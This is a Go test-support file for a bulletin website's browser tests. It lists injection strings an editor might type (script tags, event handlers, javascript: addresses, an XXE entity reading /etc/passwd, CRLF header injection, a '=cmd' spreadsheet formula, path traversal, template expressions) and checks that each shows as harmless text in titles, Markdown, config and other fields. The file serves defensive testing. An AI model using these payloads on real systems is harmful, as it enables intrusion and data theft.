package browser

import (
	"fmt"
	"regexp"
	"runtime"
	"strconv"
	"strings"
	"unicode"
	"unicode/utf8"

	"golang.org/x/text/unicode/norm"
)

// ran is what the scripts among the attacks do, should one of them run: it marks the
// page, and asks a server that is not the bulletin's.
const ran = `document.documentElement.dataset.ran=1,new/**/Image().src='http://ran.invalid/ran'`

// attacks are texts that an editor may type, by mistake or not, each of which breaks
// out of some place that does not expect it. RUN stands for ran.
var attacks = func() []string {
	list := []string{
		// Scripts.
		`<script>RUN</script>`, `<ScRiPt>RUN</sCrIpT>`, `<script src=//ran.invalid/x.js></script>`, `<script/x type=module>RUN</script >`,
		`</script><script>RUN</script>`, `<scr<script>ipt>RUN</scr</script>ipt>`, `<!--<script>`, `"';</script><script>RUN//`,
		// Handlers.
		`<img src=x onerror=RUN>`, `<svg/onload=RUN>`, `"><svg onload=RUN>`, `'><img src=x onerror=RUN>`, `" onmouseover="RUN`, `' onmouseover='RUN`,
		"` onmouseover=`RUN", ` onfocus=RUN autofocus tabindex=0 `, `x onfocus=RUN autofocus contenteditable`, `<details open ontoggle=RUN>`, `<body onload=RUN>`, `<input autofocus onfocus=RUN>`,
		`<video><source onerror=RUN>`, `<iframe srcdoc="<script>top.RUN</script>">`, `<object data="javascript:RUN">`, `<embed src=//ran.invalid/x>`, `<form action=javascript:RUN><button>x</button></form>`,
		`<a href="javascript:RUN">x</a>`, `<math><mtext><table><mglyph><style><img src=x onerror=RUN>`, `<svg><style><img title="</style><img src=x onerror=RUN>">`,
		// Elements that change or end what is around them.
		`</title>`, `</title><script>RUN</script>`, `</textarea>`, `</style>`, `<style>*{display:none}</style>`, `<p style="color:red">`, `" style="position:fixed;inset:0`, `<base href="https://evil.example/">`,
		`<meta http-equiv="refresh" content="0;url=https://evil.example/">`, `<link rel=stylesheet href=//ran.invalid/x.css>`, `<plaintext>`, `<noscript><p title="</noscript><img src=x onerror=RUN>">`,
		`<template>`, `</main></body></html>`, `</option></select><b>`, `</td></tr></table>`, `</a></h1></p></li></ul>`, `<textarea>`, `<button popovertarget=main_>`,
		// Comments and what XML has.
		`<!--`, `-->`, `--!>`, `<!-->`, `<![CDATA[ x ]]>`, `]]>`, `]]>]]&gt;`, `<?xml version="1.0"?>`, `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;`,
		// Entities.
		`&lt;script&gt;RUN&lt;/script&gt;`, `&amp;lt;b&amp;gt;`, `&#60;b&#x3e; &#0; &#x110000;`, `&unknown; &copy &notin &amp`, `&colon;&Tab;&NewLine;`,
		// Addresses.
		`javascript:RUN`, `JaVaScRiPt:RUN`, "java\tscript:RUN", "java\nscript:RUN", "\x01javascript:RUN", `&#106;avascript:RUN`, `javascript&colon;RUN`, `%6aavascript:RUN`, `feed:javascript:RUN`,
		`data:text/html,<script>RUN</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `vbscript:msgbox(1)`, `//evil.example/`, `\\evil.example\x`, `https://evil.example/?a=b&c=d#"><script>RUN</script>`,
		`https://bantin.example@evil.example/`, `%0d%0aSet-Cookie: a=b`, `../../../etc/passwd%00`,
		// What templates, formats and replacements look for.
		`{{.}} {{template "top"}} {{7*7}}`, "${7*7} #{7*7} <%= 7*7 %> `${7}`", `{title} {date} {n} {address} {what} #whose`, `%s %d %!v(MISSING) %n %%`, "$& $1 $$ $` $'",
		// Markdown.
		`[x](javascript:RUN)`, `![x](//ran.invalid/x.png "y")`, `<https://evil.example/>`, `**b** _i_ ~~s~~ [^1]`, "`a` ``b`` ```c```", `| a | b |`, `# h {#id .class onclick=RUN style=color:red}`, `***`,
		// CSS.
		`color:expression(RUN)`, `url("javascript:RUN")`, `@import "//ran.invalid/x.css";`,
		// JSON and JavaScript.
		`\u003cscript\u003eRUN\u003c/script\u003e`, `","x":"y`, `"}]}</script>`, "a\u2028b\u2029c", `\`, `\" \\" \/`, `'+RUN+'`, `__proto__`,
		// Calendars, tables and e-mail.
		"x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:y", `;LANGUAGE=x:a,b;c\n\,\;`, `=cmd|'/c calc'!A1`, "x\r\nBcc: all@evil.example",
		// Signs that are not seen, and much of what is.
		"a\x00b\x07c\x1bd\x7fe\u0085f", "a\u202egnp.exe\u202c \u2066b\u2069", "a\u200b\u200d\u2060b\uFEFFc\u00adD", "a\uFFFEb\uFFFFc\U0001FFFEd", "👩🏽\u200d🚀👨\u200d👩\u200d👧\u200d👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
		strings.Repeat("Z"+strings.Repeat("\u030d\u0312\u0346", 9)+"algo ", 6) + ".", "عربي ועברית <b>", "漢字かな交じり文の長い題名",
		strings.Repeat("Dàiquá", 100), strings.Repeat("ỆỮẪ", 60), strings.Repeat("一", 200), strings.Repeat(`"<&'>`, 60),
	}
	for i, s := range list {
		list[i] = strings.ReplaceAll(s, "RUN", ran)
	}
	return list
}()

// A place is somewhere that an editor types.
type place struct {
	name string
	// shown is what a reader sees of what was typed: the text itself, but for what is
	// normalised when it is read. It is nil where a text is not shown but decides
	// something, or goes into the open data alone.
	shown func(string) string
}

// places are all of them.
var places = []place{
	// Of an article.
	{"title", folded}, {"summary", folded}, {"number", folded}, {"author", folded}, {"photos", folded}, {"translator", folded},
	{"source.name", folded}, {"source.url", exact}, {"image.alt", folded}, {"image.caption", func(s string) string { return folded(line(s)) }},
	{"folder", fileName}, {"picture name", nil},
	{"documents.issuer", folded}, {"documents.title", folded}, {"documents.relation", folded},
	// Of its text.
	{"paragraph", replaced}, {"heading", replaced}, {"heading attributes", replaced}, {"emphasis", replaced}, {"struck out", replaced},
	{"code span", replaced}, {"fenced code", replaced}, {"fence info", nil}, {"indented code", replaced},
	{"link text", replaced}, {"link title", replaced}, {"link address", inAddress}, {"reference", inAddress},
	{"picture alt", spaced}, {"picture caption", replaced}, {"inline picture title", nil},
	{"table head", replaced}, {"table cell", replaced}, {"list", replaced}, {"quotation", replaced}, {"footnote", replaced},
	// Of a committee, a page, an announcement.
	{"committee name", folded}, {"committee short", folded}, {"committee alias", folded},
	{"page title", folded}, {"page summary", folded}, {"page text", replaced}, {"menu", folded},
	{"announcement", folded}, {"announcement url", exact},
	// Of config.yaml and of the strings files.
	{"config title", folded}, {"config description", folded},
	{"language", folded}, {"territory", folded}, {"months", folded}, {"weekdays", folded}, {"patterns", folded}, {"sentences", spacedAll},
}

// narrow are the places that take fewer characters than the longest attacks have, with
// how many are left beside what else the tests type there.
var narrow = map[string]int{
	"title": 300, "page title": 300, "number": 200, "author": 200, "photos": 200, "translator": 200, "source.name": 200,
	"documents.issuer": 180, "documents.title": 500, "documents.relation": 200,
	"committee name": 190, "committee short": 90, "committee alias": 190, "menu": 80, "announcement": 300, "announcement url": 38,
	"config title": 100, "config description": 300,
}

// typed is an attack as it fits into a place.
func typed(place, attack int) string {
	s := attacks[attack]
	if most, ok := narrow[places[place].name]; ok && utf8.RuneCountInString(s) > most {
		return string([]rune(s)[:most])
	}
	return s
}

func placeOf(name string) int {
	for p := range places {
		if places[p].name == name {
			return p
		}
	}
	panic("internal error: no place " + name)
}

func exact(s string) string { return s }

// folded is the value of a key: white space, controls and the ends of lines and of
// paragraphs are one space; what shows nothing and steers what is beside it is not there.
func folded(s string) string {
	return norm.NFC.String(single(strings.Map(func(r rune) rune {
		switch {
		case r == '\u2028' || r == '\u2029':
			return ' '
		case unicode.Is(unicode.Cf, r) && r != '\u200c' && r != '\u200d':
			return -1
		}
		return r
	}, spacedAll(s))))
}

// spacedAll is a sentence of a strings file: controls are spaces.
func spacedAll(s string) string {
	return strings.Map(func(r rune) rune {
		if unicode.IsControl(r) {
			return ' '
		}
		return r
	}, s)
}

func single(s string) string {
	for strings.Contains(s, "  ") {
		s = strings.ReplaceAll(s, "  ", " ")
	}
	return strings.Trim(s, " ")
}

// line is what of a text can be typed in one line of a text file.
func line(s string) string {
	return single(strings.NewReplacer("\x00", "", "\r\n", " ", "\n", " ", "\t", " ").Replace(s))
}

// replaced is a text of Markdown: it shows that there is a control.
func replaced(s string) string {
	return strings.Map(func(r rune) rune {
		if r < ' ' {
			return '\uFFFD'
		}
		return r
	}, line(s))
}

// spaced is a text of Markdown that has no line ends, such as an alternative text.
func spaced(s string) string { return withSpaces(line(s)) }

// withSpaces has one space for what ASCII has no sign for.
func withSpaces(s string) string {
	return single(strings.Map(func(r rune) rune {
		if r < ' ' || r == 0x7f {
			return ' '
		}
		return r
	}, s))
}

// fileName is what of a text can be the name of a file.
func fileName(s string) string {
	if runtime.GOOS != "linux" {
		return "x" // other systems allow less
	}
	// What begins with a point is hidden, and what begins with # is an editor's.
	s = "f " + strings.NewReplacer("/", "∕", `\`, "∖", "\x00", "").Replace(s)
	for i := range s {
		if i > 150 {
			return s[:i]
		}
	}
	return s
}

// inAddress is what an address in a text says.
func inAddress(s string) string { return decoded(withoutControls(s)) }

// withoutControls is what of a text an address can have.
func withoutControls(s string) string {
	return strings.Map(func(r rune) rune {
		if r < ' ' || r == 0x7f {
			return -1
		}
		return r
	}, s)
}

// decoded resolves the %-escapes of an address, as far as they are some.
func decoded(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '%' && i+2 < len(s) {
			if n, err := strconv.ParseUint(s[i+1:i+3], 16, 8); err == nil {
				b.WriteByte(byte(n))
				i += 2
				continue
			}
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

// word is the harmless word that stands for an attack in a place. It tells both.
func word(p, attack int) string { return fmt.Sprintf("z%c%c%03dz", 'a'+p/26, 'a'+p%26, attack) }

// wordSize is how long it is.
const wordSize = len("zaa000z")

var wordForm = regexp.MustCompile(`^z[a-z][a-z][0-9]{3}z$`)

// meant is what a harmless word stands for; ok is false where s is none.
func meant(s string) (p, attack int, ok bool) {
	if s[0] != 'z' || !wordForm.MatchString(s) {
		return 0, 0, false
	}
	p, attack = int(s[1]-'a')*26+int(s[2]-'a'), int(s[3]-'0')*100+int(s[4]-'0')*10+int(s[5]-'0')
	return p, attack, p < len(places) && attack < len(attacks)
}

// shownAs gives a text in which each harmless word is what the attack in its stead
// must show as. seen, if not nil, is told of each.
func shownAs(s string, seen func(place, attack int)) string {
	var b strings.Builder
	for i := 0; i < len(s); {
		if i+wordSize <= len(s) {
			if p, attack, ok := meant(s[i : i+wordSize]); ok && places[p].shown != nil {
				b.WriteString(places[p].shown(typed(p, attack)))
				if seen != nil {
					seen(p, attack)
				}
				i += wordSize
				continue
			}
		}
		b.WriteByte(s[i])
		i++
	}
	return b.String()
}
